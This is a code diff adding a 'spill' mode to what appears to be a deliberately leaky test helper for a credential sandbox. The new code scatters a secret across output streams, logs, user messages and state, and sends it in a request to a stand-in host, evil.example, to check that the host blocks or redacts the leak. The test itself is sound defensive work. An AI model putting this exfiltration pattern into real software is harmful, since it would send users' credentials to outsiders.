@@ -5,11 +5,18 @@
 //! message, a refused URL's host, path or user info, and stdout cut at
 //! the 64 KiB capture boundary. `MODE=hdr` returns the framing or hop-by-hop
 //! header of index `HEADER` in its list (value `v`).
+//!
+//! `MODE=spill` puts it everywhere at once but in the credential, and
+//! succeeds: on stdout and stderr, in a log line of each level, in a
+//! message to the user, as the name of a key, as the name and the value
+//! of state, and in a refused URL; then it answers [`clean`], every part
+//! of which says `clean`.
 
 use std::io::Write;
 
 use credbox_guest::http::Client;
-use credbox_guest::{Credential, Error, Helper, Request, config_required, log};
+use credbox_guest::keys::{self, Algorithm};
+use credbox_guest::{Credential, Error, Helper, Request, config_required, log, state, user};
 
 struct LeakEverywhere;
 
@@ -101,9 +108,48 @@ impl Helper for LeakEverywhere {
                 let _ = out.flush();
                 Err(Error::other("printed"))
             }
+            "spill" => {
+                spill(&secret, &m);
+                Ok(clean())
+            }
             other => Err(Error::misconfigured(format!("unknown MODE {other}"))),
         }
     }
+}
+
+/// Puts `secret`, and `m` (it in mixed case), everywhere a helper that
+/// succeeds can, but in the credential. What each host call answers is
+/// ignored: a refusal is the point.
+fn spill(secret: &str, m: &str) {
+    println!("stdout: {m}");
+    eprintln!("stderr: {m}");
+    let _ = std::io::stdout().flush();
+    for line in [m, &format!("the secret is {secret}")] {
+        log::debug(line);
+        log::info(line);
+        log::warn(line);
+        log::error(line);
+    }
+    let _ = user::show(&format!("open https://example.test/?code={m}"));
+    let _ = keys::info(m);
+    let _ = keys::sign(m, Algorithm::HmacSha256, secret.as_bytes());
+    let _ = state::set("spill", secret);
+    let _ = state::get("spill");
+    let _ = state::set(m, "v");
+    let _ = state::get(m);
+    let _ = Client::new()
+        .get(&format!("https://evil.example/{m}"))
+        .header("X-Spill", m)
+        .send();
+}
+
+/// A valid credential with every part, none of them secret: what the
+/// `spill` mode answers.
+fn clean() -> Credential {
+    Credential::token("clean-token-1")
+        .header("X-Clean", "clean-header-1")
+        .user_secret("clean-user", "clean-password-1")
+        .aws("AKIDCLEANCLEAN01", "clean-aws-secret-1", None)
 }
 
 credbox_guest::export!(LeakEverywhere);
